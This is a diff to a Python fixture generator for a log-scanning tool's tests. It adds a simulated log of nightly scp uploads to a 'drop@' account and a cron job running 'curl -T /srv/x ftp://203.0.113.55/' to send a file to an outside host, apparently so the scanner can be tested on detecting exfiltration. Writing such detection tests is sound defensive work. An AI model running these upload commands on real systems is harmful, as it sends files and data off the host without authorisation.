@@ -71,6 +71,19 @@ def execs_only():
                    if line.split("msg=")[1].split(":")[1] not in stamps)
 
 
+def many_jobs_without_bytes():
+    """Twelve nights of two jobs on a host whose rules ask for programs and connections alone."""
+    story = Story()
+    for night in range(12):
+        scp_job(story, f"203.0.113.{20 + night % 4}", (), 700 + 10 * night,
+                f"drop@203.0.113.{20 + night % 4}:up/")
+        shell = story.cron_job("curl -T /srv/x ftp://203.0.113.55/", pid=705 + 10 * night)
+        shell.fork(707 + 10 * night).exec(
+            "/usr/bin/curl", "curl", "-T", "/srv/x", "ftp://203.0.113.55/").connect(
+                5, "203.0.113.55", 21)
+    return without(story, 3)
+
+
 def without(story, call):
     """The log of a host whose rules do not ask for that call."""
     stamps = {line.split("msg=")[1].split(":")[1] for line in story.lines
@@ -275,6 +288,7 @@ def one_job():
 LOGS = {"scan-argv-peers": argv_peers, "scan-one-liners": one_liners, "scan-titles": titles,
         "scan-table": two_hosts, "scan-jsonl": two_hosts, "coverage": two_hosts,
         "scan-csv": formulas, "scan-quiet": quiet, "scan-blind": execs_only,
+        "scan-no-bytes": many_jobs_without_bytes, "scan-no-bytes-all": many_jobs_without_bytes,
         "scan-blind-nothing-sent": nothing_sent, "scan-hostile": hostile,
         "scan-begins-late": begins_late,
         "scan-nightly": two_nights,
